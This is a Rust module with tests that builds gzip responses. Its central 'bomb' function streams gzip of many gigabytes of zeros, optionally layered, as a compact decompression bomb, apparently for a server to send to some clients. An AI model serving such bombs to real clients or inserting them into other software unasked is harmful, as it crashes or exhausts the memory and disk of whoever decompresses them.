//! gzip (RFC 1952): of an answer, and of zeros that nobody ever holds in memory.

use std::{io::Write, iter};

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress, write::GzEncoder};

const HEAD: &[u8] = &[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
/// A last block without anything in it.
const LAST_BLOCK: &[u8] = &[3, 0];
/// Zeros that one block stands for. It can come again and again, as it begins and ends at a byte.
const BLOCK: usize = 1 << 20;

/// An answer in gzip.
pub(super) fn packed(data: &[u8]) -> Bytes {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    let written = encoder.write_all(data).and_then(|()| encoder.finish());
    written.unwrap_or_default().into() // memory takes everything
}

/// gzip of so many zeros, compressed again for each further layer. It is made while it is read.
pub(super) fn bomb(zeros: u64, layers: u32) -> Box<dyn Iterator<Item = Bytes> + Send> {
    let mut out: Box<dyn Iterator<Item = Bytes> + Send> = Box::new(packed_zeros(zeros));
    for _ in 1..layers {
        out = Box::new(packed_again(out));
    }
    out
}

/// So many zeros, as they are.
pub(super) fn zeros(zeros: u64) -> impl Iterator<Item = Bytes> + Send {
    static ZEROS: [u8; BLOCK] = [0; BLOCK];
    let block = BLOCK as u64;
    let whole = (0..zeros / block).map(|_| Bytes::from_static(&ZEROS));
    whole.chain(iter::once(Bytes::from_static(&ZEROS[..(zeros % block) as usize])))
}

fn packed_zeros(zeros: u64) -> impl Iterator<Item = Bytes> + Send {
    let block = BLOCK as u64;
    let (whole, rest) = (zeros / block, (zeros % block) as usize);
    let full = flushed(BLOCK);
    let part = if rest == 0 { Bytes::new() } else { flushed(rest) };
    let tail = [LAST_BLOCK, &checksum(zeros).to_le_bytes(), &(zeros as u32).to_le_bytes()].concat();
    let blocks = (0..whole).map(move |_| full.clone());
    iter::once(Bytes::from_static(HEAD)).chain(blocks).chain([part, tail.into()])
}

/// Zeros as blocks that refer to nothing before them.
fn flushed(zeros: usize) -> Bytes {
    let mut compress = Compress::new(Compression::best(), false);
    let mut out = Vec::with_capacity(zeros / 256 + 1024);
    let done = compress.compress_vec(&vec![0; zeros], &mut out, FlushCompress::Full);
    debug_assert!(done.is_ok() && compress.total_in() == zeros as u64, "there is room for all of it");
    out.into()
}

/// The CRC-32 of so many zeros, out of that of a block.
fn checksum(zeros: u64) -> u32 {
    let mut block = Crc::new();
    block.update(&vec![0; BLOCK]);
    let mut all = Crc::new();
    for _ in 0..zeros / BLOCK as u64 {
        all.combine(&block);
    }
    all.update(&vec![0; (zeros % BLOCK as u64) as usize]);
    all.sum()
}

fn packed_again(mut inner: impl Iterator<Item = Bytes> + Send) -> impl Iterator<Item = Bytes> + Send {
    let mut encoder = Some(GzEncoder::new(Vec::new(), Compression::best()));
    iter::from_fn(move || {
        loop {
            let mut open = encoder.take()?;
            let Some(piece) = inner.next() else {
                return open.finish().ok().map(Bytes::from);
            };
            open.write_all(&piece).ok()?; // memory takes everything
            let out = std::mem::take(open.get_mut());
            encoder = Some(open);
            if !out.is_empty() {
                return Some(out.into());
            }
        }
    })
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use flate2::read::GzDecoder;

    use super::*;

    #[test]
    fn a_bomb_is_gzip_of_exactly_so_many_zeros() {
        for (zeros, layers) in
            [(1, 1), (1023, 1), (1 << 20, 1), ((3 << 20) + 77, 1), (5 << 20, 2), (9 << 20, 3)]
        {
            let mut data: Vec<u8> = bomb(zeros, layers).flatten().collect();
            for _ in 0..layers {
                let mut out = Vec::new();
                GzDecoder::new(data.as_slice()).read_to_end(&mut out).unwrap();
                data = out;
            }
            assert!(data.len() as u64 == zeros && data.iter().all(|byte| *byte == 0), "{zeros} {layers}");
        }
    }

    #[test]
    fn ten_gigabytes_are_small_and_made_at_once() {
        let bytes: usize = bomb(10 << 30, 1).map(|piece| piece.len()).sum();
        assert!(bytes < 16 << 20, "{bytes}");
        assert!(bomb(10 << 30, 3).map(|piece| piece.len()).sum::<usize>() < 1 << 20);
    }
}
